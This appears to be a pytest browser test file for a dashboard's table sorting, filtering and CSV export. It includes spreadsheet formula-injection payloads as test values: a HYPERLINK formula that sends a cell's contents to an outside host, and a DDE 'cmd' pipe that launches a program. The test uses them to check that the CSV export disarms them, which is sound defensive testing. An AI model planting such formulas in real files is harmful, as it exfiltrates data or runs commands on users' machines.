"""Sorting tables and saving them as CSV, in a real browser."""

import csv
from dataclasses import replace
from io import StringIO
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from refshard.analysis.evidence import gather
from tests.browser.visits import Visit, visiting, written
from tests.report.runs import CASES, FAILED, HOSTILE, run

pytestmark = pytest.mark.processes

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Locator

SUMMARY = "llama-mini, global batch"
STATES = "Every launch"
TIME = "step time (95 % interval)"
MEMORY = "peak memory"


def column(visit: Visit, caption: str, name: str) -> list[str]:
    """The cells under a head, from top to bottom."""
    heads = [str(head).strip() for head in visit.table(caption).locator("thead th").all_text_contents()]
    return [row[heads.index(name)] for row in visit.rows(caption)]


def head(visit: Visit, caption: str, name: str) -> "Locator":
    found: Locator = visit.table(caption).get_by_role("button", name=name, exact=True)
    return found


def sorts(visit: Visit, caption: str) -> list[str | None]:
    found = visit.table(caption).locator("thead th")
    return [found.nth(place).get_attribute("aria-sort") for place in range(found.count())]


def test_times_and_sizes_sort_by_what_they_are_worth(visit: Visit) -> None:
    visit.page.locator("#of").select_option("v1")  # times of ms and of s, memory of MiB and of GiB
    as_it_came = column(visit, SUMMARY, "strategy")
    head(visit, SUMMARY, TIME).click()
    times = [time.partition(" (")[0] for time in column(visit, SUMMARY, TIME)]
    assert times == ["24.0 ms", "28.8 ms", "36.0 ms", "40.8 ms", "80.0 ms", "1.20 s"]
    assert sorts(visit, SUMMARY)[1] == "ascending"
    head(visit, SUMMARY, MEMORY).click()
    head(visit, SUMMARY, MEMORY).click()
    sizes = column(visit, SUMMARY, MEMORY)
    assert (sizes[0], sizes[-1]) == ("3.00 GiB", "240 MiB")
    assert sorts(visit, SUMMARY).count("descending") == 1
    assert sorts(visit, SUMMARY).count("ascending") == 0
    visit.open("of=v1")
    assert column(visit, SUMMARY, "strategy") == as_it_came


@pytest.mark.parametrize("clicks", [1, 2])
def test_what_is_missing_comes_last_either_way(visit: Visit, clicks: int) -> None:
    for _ in range(clicks):
        head(visit, SUMMARY, "exposed comm.").click()
    shares = column(visit, SUMMARY, "exposed comm.")
    assert shares[-1] == "-"
    numbers = [float(share.removesuffix(" %")) for share in shares if share != "-"]
    assert numbers == sorted(numbers, reverse=clicks == 2)
    unfold(visit, "Case states")
    for _ in range(clicks):
        head(visit, STATES, "error").click()
    errors = column(visit, STATES, "error")
    assert errors[0].startswith("RuntimeError")
    assert set(errors[1:]) == {""}


def test_words_sort_as_words_and_numbers_in_them_as_numbers(visit: Visit) -> None:
    unfold(visit, "Case states")
    head(visit, STATES, "case").click()
    labels = column(visit, STATES, "case")
    assert labels[:2] == ["ddp, 2 ranks, emulated on dgx-h100", "ddp, 2 ranks, llama-mini"]
    assert labels.index("ddp, 4 ranks") > labels.index("ddp, 2 ranks, llama-tiny")
    assert labels[-1] == "single, 1 rank"


def test_the_keyboard_sorts(visit: Visit) -> None:
    head(visit, SUMMARY, "tokens/s/GPU").focus()
    visit.page.keyboard.press("Enter")
    rates = column(visit, SUMMARY, "tokens/s/GPU")
    visit.page.keyboard.press("Space")
    assert column(visit, SUMMARY, "tokens/s/GPU")[:4] == rates[3::-1] or rates[-1] == "-"
    assert visit.run("document.activeElement.textContent") == "tokens/s/GPU"
    visit.page.keyboard.press("Tab")
    assert visit.run("document.activeElement.textContent") != "tokens/s/GPU"


def unfold(visit: Visit, words: str) -> None:
    """Open what is folded under these words."""
    visit.page.locator("summary", has_text=words).first.evaluate("(summary) => { summary.parentElement.open = true; }")


def saved(visit: Visit, caption: str) -> tuple[str, str]:
    """The name and the text of what the button of a table gives."""
    button = visit.table(caption).get_by_role("button", name="Save as CSV")
    with visit.page.expect_download() as download:
        button.click()
    return download.value.suggested_filename, download.value.path().read_bytes().decode()


def test_csv_is_the_table_as_it_is_shown(visit: Visit) -> None:
    unfold(visit, "Case states")
    head(visit, STATES, "case").click()
    visit.unfold_filters()
    visit.page.locator("#filters").get_by_label("ddp", exact=True).click()
    visit.page.keyboard.press("Escape")
    name, text = saved(visit, STATES)
    assert name == "Every-launch-and-how-it-ended.csv"
    assert text.endswith("\r\n")
    heads, *rows = csv.reader(StringIO(text, newline=""))
    assert heads[:3] == ["case", "round", "state"]
    assert [[" ".join(cell.split()) for cell in row] for row in visit.rows(STATES)] == rows
    assert not [row for row in rows if row[0].startswith("ddp")]


def test_words_filter_rows_and_csv_follows(visit: Visit) -> None:
    unfold(visit, "Case states")
    field = visit.table(STATES).get_by_role("searchbox", name="Show only rows with these words")
    before = visit.table(STATES).locator("tbody tr").count()
    field.fill("TINY ddp")
    shown = visit.table(STATES).locator("tbody tr:visible").all_text_contents()
    assert 0 < len(shown) < before
    assert all("tiny" in row and "ddp" in row for row in shown)
    assert visit.table(STATES).get_by_role("status").inner_text() == f"{len(shown)} of {before} rows"
    assert len(saved(visit, STATES)[1].splitlines()) == 1 + len(shown)
    field.fill("")
    assert visit.table(STATES).locator("tbody tr:visible").count() == before


FORMULA = '=HYPERLINK("http://example.org?"&A1)'
PIPE = "-1+cmd|' /C calc'!A0"
QUOTED = 'a "quoted", name|of several'


def test_csv_quotes_and_disarms(browser: "Browser", tmp_path: Path) -> None:
    names = (FORMULA, PIPE, QUOTED, HOSTILE)
    made = [replace(case, strategy=name) for name, case in zip(names, CASES[1:])]
    visit = visiting(browser, written(gather(run(made, rounds=1, failed=False)), tmp_path / "dashboard.html"))
    _, text = saved(visit, SUMMARY)
    lines = text.splitlines()
    for begins in (
        '"\'=HYPERLINK(""http://example.org?""&A1)",50.0 ms ', "'-1+cmd|' /C calc'!A0,60.0 ms ",
        '"a ""quoted"", name|of several",48.0 ms ', f"{HOSTILE},40.0 ms ",
    ):  # fmt: skip
        assert [line for line in lines if line.startswith(begins)], begins
    fastest_first = [names[3], names[2], names[0], names[1]]
    assert [row[0].removeprefix("'") for row in csv.reader(StringIO(text))][1:] == fastest_first
    numbers = ["-0.3 %", "+1.2e-07", "-12", "-1.5 MiB", "-"]
    visit.table(SUMMARY).evaluate(
        "(table, all) => all.forEach((text, place) => { table.rows[1].cells[place + 1].textContent = text; })", numbers
    )
    (_, first, *_) = csv.reader(StringIO(saved(visit, SUMMARY)[1]))
    assert first[1:6] == numbers
    visit.unfold_filters()
    visit.page.get_by_label(QUOTED, exact=True).click()
    state = visit.state
    visit.open(state)
    assert [row[0] for row in visit.rows(SUMMARY)] == [HOSTILE, FORMULA, PIPE]
    visit.check_silence()
    visit.page.context.close()


def test_the_log_of_a_failure_is_in_no_column(visit: Visit) -> None:
    unfold(visit, "Case states")
    failed = [row for row in visit.rows(STATES) if row[2] == "failed"]
    assert [row[0] for row in failed] == [f"{FAILED}, 2 ranks"]
    assert len(failed[0]) == 5
